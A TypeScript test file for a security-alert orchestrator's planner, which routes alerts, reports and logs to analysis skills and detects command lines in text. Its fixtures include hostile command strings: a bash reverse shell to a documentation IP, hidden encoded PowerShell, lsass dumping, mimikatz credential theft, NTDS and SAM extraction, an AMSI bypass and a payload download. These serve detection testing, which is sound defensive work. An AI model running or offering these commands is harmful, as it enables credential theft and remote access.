/** The rules planner: what runs side by side, and what waits for what was found. */
import { expect, test } from 'vitest';
import { agents } from '../../agents/index.ts';
import { Alert } from '../../orchestrator/alert-steps.ts';
import { rulesPlanner, SPECIALIST_OF, type Situation } from '../../orchestrator/plan.ts';
import { commandsUnread, scriptOf } from '../../orchestrator/script.ts';
import type { InputKind } from '../../protocol/index.ts';
import { resultOf } from '../support/result.ts';

const FULL = {
  alert_id: 'A-1',
  title: 'Something',
  raw_log: 'line',
  http: { method: 'GET', url: '/' },
  email: 'From: a@example.com\n\n',
  command_line: 'whoami /all',
  iocs: [{ type: 'ip', value: '198.51.100.7' }],
};

test.each<[InputKind, string, string]>([
  ['email', 'analyze_email', 'email'],
  ['access_log', 'analyze_access_log', 'log'],
  ['http', 'analyze_http', 'source'],
  ['report', 'extract_iocs', 'source'],
  ['intel', 'import_intel', 'source'],
])('%s goes to %s first, as it is', (kind, skill, param) => {
  const input = { name: 'x', text: 'y' };
  const [step, ...others] = rulesPlanner.next({ ...situation(), kind, input });
  expect(step).toMatchObject({ skill, params: { [param]: input } });
  expect(others).toEqual([]);
});

test('a report goes to who maps texts to techniques too, where somebody offers that', () => {
  const asked = (offered: string) =>
    rulesPlanner.next({ ...situation(), kind: 'report', offers: (name) => name === offered }).map(({ skill }) => skill);
  expect(asked('map_text_to_attack')).toEqual(['extract_iocs', 'map_text_to_attack']);
  expect(asked('another')).toEqual(['extract_iocs']);
});

test('the URLs that a text names are taken apart too where somebody offers that, twenty of them', () => {
  const iocs = Array.from({ length: 25 }, (_, nth) => ({ type: 'url', value: `http://example.com/${nth}` }));
  const settled = new Map([['text', resultOf({ iocs })]]);
  const asked = (offered: string) =>
    rulesPlanner.next({ ...situation(), kind: 'report', settled, offers: (name) => name === offered });
  expect(asked('analyze_url').map(({ skill, params }) => [skill, params.url])).toEqual(
    iocs.slice(0, 20).map(({ value }) => ['analyze_url', value]),
  );
  expect(asked('another')).toEqual([]);
});

test('what a text names is looked up once for all its URLs, and not at all when none is left to ask about', () => {
  let read = 0;
  const iocs = Array.from({ length: 3 }, (_, nth) => ({ type: 'url', value: `http://example.com/${nth}` }));
  const text = {
    ...resultOf({ iocs }),
    get extracted() {
      read += 1;
      return iocs.map(({ type, value }, nth) => ({ type, value, line: nth + 1 }));
    },
  };
  const asked = (...steps: string[]) => {
    read = 0;
    const settled = new Map<string, unknown>([['text', text], ...steps.map((step) => [step, {}] as const)]);
    const urls = rulesPlanner
      .next({ ...situation(), kind: 'report', settled, offers: () => true })
      .filter(({ skill }) => skill === 'analyze_url');
    return urls.map(({ params }) => (params.origin as { locator: string }).locator);
  };
  expect(asked()).toEqual(['line 1', 'line 2', 'line 3']);
  const at_once = read;
  expect(asked('url-1', 'url-2')).toEqual(['line 3']);
  expect(read).toBe(at_once);
  expect(asked('url-1', 'url-2', 'url-3')).toEqual([]);
  expect(read).toBeLessThan(at_once);
});

test('the commands of a script go to who judges commands, beside the text', () => {
  const text = 'bash -i >& /dev/tcp/198.51.100.2/4444 0>&1';
  const asked = rulesPlanner.next({ ...situation(), kind: 'report', commands: [{ text, line: 3 }] });
  expect(asked.map(({ skill }) => skill)).toEqual(['extract_iocs', 'check_lolbins']);
  expect(asked[1]?.params).toEqual({ commands: [text], origins: [{ source: 'a', locator: 'line 3' }] });
});

test.each([
  ['a.txt', 'powershell -nop -w hidden -enc SQBFAFgA', 1],
  ['rev.sh', 'bash -i >& /dev/tcp/198.51.100.2/4444 0>&1', 1],
  ['a.txt', '#!/bin/sh\n# hello\nfoo\nbar', 2],
  ['a.bat', '@echo off\r\nrem x\r\nstart a.exe\r\n', 1],
  ['a.txt', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', 1],
  ['a.txt', 'regsvr32.exe \\\\203.0.113.9\\share\\evil.dll', 1],
  ['a.txt', 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 1],
  ['a.txt', 'procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp', 1],
  ['a.txt', 'ntdsutil.exe "ac i ntds" "ifm" "create full c:\\temp" q q', 1],
  ['a.txt', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", 1],
  ['a.txt', "(New-Object Net.WebClient).DownloadFile('http://203.0.113.9/x.exe','x.exe')", 1],
  ['a.txt', 'mimikatz.exe was found in C:\\temp by the scanner.', undefined],
  ['a.txt', '[1] The report of the vendor (New-Object is a cmdlet)', undefined],
  ['a.txt', 'The actor ran:\nwhoami\nand then left the host.', undefined],
  ['a.txt', 'curl was used with -x here.', undefined],
  ['a.txt', "Mimikatz wasn't found on WS01", undefined],
  ['a.txt', "Procdump can't read lsass on WS01", undefined],
  ['a.txt', "Procdump on WS01 can’t read 'lsass'", undefined],
  ['a.txt', "The helpdesk's view: Mimikatz", undefined],
  ['a.txt', "Mimikatz on the helpdesk's list", undefined],
  ['a.txt', 'Mimikatz was found in C:\\Temp on WS01', undefined],
  ['a.txt', 'Mimikatz, a tool, lay in C:\\Temp on WS01', undefined],
  ['a.txt', 'Python was installed to C:\\Python39 by the helpdesk', undefined],
  ['a.txt', 'Python got installed to C:\\Python39 by the helpdesk', undefined],
  ['a.txt', 'reg C:\\Users\\bob was full', undefined],
  ['a.txt', 'net use stands for mapping drives on \\\\fileserver', undefined],
  ['a.txt', 'net use Z: \\\\fileserver\\c$', 1],
  ['a.txt', 'reg save HKLM\\SAM C:\\Temp\\sam.hiv', 1],
  ['a.txt', 'python "C:\\Users\\Public\\a b.py" whatever', 1],
  ['a.txt', 'esentutl.exe vss C:\\Windows\\ntds.dit', 1],
  ['a.txt', "rubeus 'kerberoast'", 1],
  ['a.txt', 'wmic process call create C:\\Temp\\a.exe', 1],
])('%s with %j is a script of so many commands: %s', (name, text, count) => {
  expect(scriptOf(Buffer.from(text), name, 65_536)?.commands.length).toBe(count);
});

test('a line that looks like a command in a text that is no script is told as unread, and prose is not', () => {
  const report = ['The host was slow.', 'We found this:', '', 'evil.exe /install', 'and cleaned it up.', ''];
  expect(scriptOf(Buffer.from(report.join('\n')), 'a.txt', 65_536)).toBeUndefined();
  expect(commandsUnread(Buffer.from(report.join('\n')))).toMatchObject([
    { what: '1 line that looks like a command, the first in line 4' },
  ]);
  expect(commandsUnread(Buffer.from('The host was slow.\nNobody knows why - we looked.\n'))).toEqual([]);
});

test.each([
  ['google.com was visited by the user.', 0],
  ['acme.com Newsletter for you', 0],
  ['acme.com - the newsletter', 0],
  ['$5 = 4 EUR', 0],
  ['setup.exe could not be opened', 0],
  ['setup.exe /S was run for all, by the helpdesk today.', 0],
  ['$url = $env:TEMP', 1],
  ['evil.exe install C:\\ProgramData\\a', 1],
  ['evil.exe --install', 1],
  ['Invoke-Evil -Target WS01', 1],
])('%j has so many lines that look like a command: %i', (text, count) => {
  expect(commandsUnread(Buffer.from(`The host was slow.\n${text}\n`))).toHaveLength(count);
});

test('what a text names is cited where it stands: a URL by its line, a command line of an alert by its field', () => {
  const extracted = [{ type: 'url', value: 'http://example.com/1', line: 7 }];
  const settled = new Map([
    ['text', { ...resultOf({ iocs: [{ type: 'url', value: 'http://example.com/1' }] }), extracted }],
  ]);
  const url = rulesPlanner.next({ ...situation(), kind: 'report', settled, offers: (name) => name === 'analyze_url' });
  expect(url[0]?.params['origin']).toEqual({ source: 'a', locator: 'line 7' });
  const alert = Alert.parse({ command_line: 'whoami /all' });
  const [step] = rulesPlanner.next({ ...situation(), kind: 'alert', alert });
  expect(step?.params['origins']).toEqual([{ source: 'a', locator: '/command_line' }]);
});

test('every skill that a plan asks for is offered by the specialist that is said to be missing without it', async () => {
  const skills_of = new Map<string, string[]>();
  for (const [id, load] of Object.entries(agents))
    skills_of.set(
      id,
      (await load()).skills.map((offered) => offered.id),
    );
  for (const [skill, specialist] of Object.entries(SPECIALIST_OF)) expect(skills_of.get(specialist)).toContain(skill);
});

test('recordings and artefacts go to everybody who reads them', () => {
  const asked = (kind: InputKind) =>
    rulesPlanner.next({ ...situation(), kind }).map(({ skill, params }) => [skill, params]);
  const input = { name: 'a', text: '{}' };
  const recording = [
    ['assess_endpoint', { events: input }],
    ['run_sigma', { events: input }],
  ];
  expect(asked('events')).toEqual(recording);
  expect(asked('evtx')).toEqual([['parse_evtx', { log: input }], ...recording]);
  expect(asked('artifact')).toEqual([['parse_artifact', { artifact: input }]]);
});

test('everything that an alert carries is looked at side by side', () => {
  expect(skills(situation(FULL))).toEqual([
    'analyze_access_log',
    'analyze_http',
    'analyze_email',
    'check_lolbins',
    'extract_iocs',
  ]);
});

test('indicators go to threat intelligence once everything is back, and only once', () => {
  const settled = new Map<string, unknown>();
  const now = () => rulesPlanner.next({ ...situation(FULL), settled });
  for (const { step, skill } of now()) {
    expect(now().map((next) => next.skill)).not.toContain('analyze_threat');
    const iocs = [{ type: 'domain', value: `${skill.replaceAll('_', '-')}.example.com` }];
    settled.set(step, skill === 'analyze_email' ? undefined : resultOf({ iocs })); // one that failed holds nothing up
  }
  const [intel] = now();
  expect(intel).toMatchObject({ skill: 'analyze_threat', params: { alert_id: 'A-1' } });
  expect(intel?.params['iocs']).toEqual([
    { type: 'ip', value: '198.51.100.7' },
    { type: 'domain', value: 'analyze-access-log.example.com' },
    { type: 'domain', value: 'analyze-http.example.com' },
    { type: 'domain', value: 'check-lolbins.example.com' }, // and not what the text named: that was judged with it
  ]);
  settled.set(intel?.step ?? '', resultOf());
  expect(now()).toEqual([]);
});

test('what a sensor judged and what it is about goes to the desk, without the indicators that others judge', () => {
  const alert = { ...FULL, severity: 'high', host: 'WS-042', timestamp: '2026-11-24T10:00:00Z' };
  const [triage, ...others] = rulesPlanner.next(situation(alert));
  expect(triage).toMatchObject({
    skill: 'triage_alert',
    params: { alert: { alert_id: 'A-1', severity: 'high', host: 'WS-042', title: 'Something' } },
  });
  expect(JSON.stringify(triage)).not.toContain('198.51.100.7');
  expect(others.map(({ skill }) => skill)).toEqual(skills(situation(FULL)));
});

test('an alert that only names indicators goes to threat intelligence at once', () => {
  expect(steps(situation({ iocs: FULL.iocs }))).toEqual(['intel']);
});

test('the same indicator from two sides is asked about once, and not at all when the text judged it already', () => {
  const ioc = { type: 'ip', value: '198.51.100.7' };
  const after = (alert: object) => {
    const first = rulesPlanner.next(situation({ ...alert, iocs: [ioc] }));
    const settled = new Map(first.map(({ step }) => [step, resultOf({ iocs: [ioc, ioc] })]));
    return rulesPlanner.next({ ...situation({ ...alert, iocs: [ioc] }), settled });
  };
  expect(after({ http: FULL.http }).map(({ params }) => params['iocs'])).toEqual([[ioc]]);
  expect(after({ title: 'x' })).toEqual([]);
});

test('nothing found means nothing more to ask', () => {
  expect(steps({ ...situation(), kind: 'report', settled: new Map([['text', resultOf()]]) })).toEqual([]);
});

test('more indicators than one call takes are asked about in several: none is left out', () => {
  const iocs = Array.from({ length: 2_345 }, (_, nth) => ({ type: 'domain', value: `h${nth}.example.com` }));
  const settled = new Map([['http', resultOf({ iocs })]]);
  const asked = rulesPlanner.next({ ...situation(), kind: 'http', settled });
  expect(asked.map(({ step }) => step)).toEqual(['intel', 'intel-2', 'intel-3']);
  expect(asked.flatMap(({ params }) => params['iocs'])).toEqual(iocs);
});

const situation = (alert: object = {}): Situation => ({
  kind: 'alert',
  input: { name: 'a', text: '{}' },
  alert: Alert.parse(alert),
  settled: new Map(),
});

const skills = (about: Situation): string[] => rulesPlanner.next(about).map(({ skill }) => skill);
const steps = (about: Situation): string[] => rulesPlanner.next(about).map(({ step }) => step);
